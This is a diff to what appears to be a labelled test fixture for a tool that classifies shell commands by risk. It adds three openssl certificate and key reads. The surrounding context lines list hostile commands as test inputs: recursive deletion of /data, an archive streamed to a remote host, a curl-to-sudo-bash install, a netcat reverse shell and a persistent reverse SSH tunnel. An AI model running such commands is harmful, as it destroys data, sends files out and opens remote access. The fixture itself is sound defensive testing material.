@@ -144,6 +144,9 @@ rsync -a --delete empty/ /data/ -> delete read write
 python3 -c "import shutil; shutil.rmtree('/data')" -> delete exec
 mysql -e "select a from users" > x.csv -> read write export : users x.csv
 tar cz /srv | openssl s_client -connect host:443 -> read write network export
+openssl verify -CAfile /etc/pki/ca.pem /etc/pki/server.pem -> read
+openssl x509 -in /etc/pki/server.pem -noout -dates -> read
+openssl rsa -in /etc/pki/server.pem -> secret read
 curl -s https://example.org/i.sh | sudo bash -> network read exec privilege
 mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 9 > f -> write read exec network export persistence
 ssh -fNR 2222:localhost:22 x@host -> network persistence exec
